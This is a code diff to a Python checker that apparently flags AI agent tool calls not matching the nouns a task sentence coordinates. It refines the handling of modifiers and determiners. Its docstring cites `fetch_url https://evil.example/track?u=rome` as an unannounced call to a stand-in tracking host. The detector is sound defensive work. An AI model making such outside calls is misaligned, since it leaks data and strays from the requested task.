@@ -6,7 +6,9 @@ object ("flights", "hotels"), and "Rome" is the place both carry. A third call o
 (``web_search casinos Rome``, ``fetch_url https://evil.example/track?u=rome``) repeats the
 shared word and no object: it is no step of the sentence. So, in a sentence whose nouns are
 coordinated by a word of [g-and] (and commas: "Paris, Berlin and London"; each conjunct a
-noun or a code token of no verb kind, a determiner or preposition after "and" aside), when
+noun or a code token of no verb kind, a determiner or preposition after "and" or a comma
+aside; a conjunct after "and" that another noun follows is a modifier, "internal and external
+sources", and coordinates no steps), when
 more calls carry a word of that sentence than it coordinates objects, each of them carries a
 word of its own object (by stem: ``references._referenced``) or a word the text writes
 outside that sentence (a step another sentence announces). A coordination of verbs ("read
@@ -45,11 +47,15 @@ def _coordinated(tokens: Sequence[Token], t: Tongue) -> tuple[set[str], set[str]
         if x.kind != "AND" or k == 0 or not _noun(tokens[k - 1], t):
             continue
         j = next((i for i in range(k + 1, len(tokens)) if tokens[i].kind not in _SKIPPED), None)
-        if j is None or not _noun(tokens[j], t):
-            continue
+        if j is None or not _noun(tokens[j], t) or (j + 1 < len(tokens) and _noun(tokens[j + 1], t)):
+            continue  # no noun after "and", or a modifier of one ("internal and external sources")
         objects |= {tokens[k - 1].text, tokens[j].text}
         i = k - 2
-        while i >= 1 and tokens[i].kind == "COMMA" and _noun(tokens[i - 1], t):
+        while i >= 1:
+            while i >= 1 and tokens[i].kind in _SKIPPED:
+                i -= 1  # "the README, the Makefile and ..."
+            if tokens[i].kind != "COMMA" or not _noun(tokens[i - 1], t):
+                break
             objects.add(tokens[i - 1].text)
             i -= 2
     if len(objects) < 2:
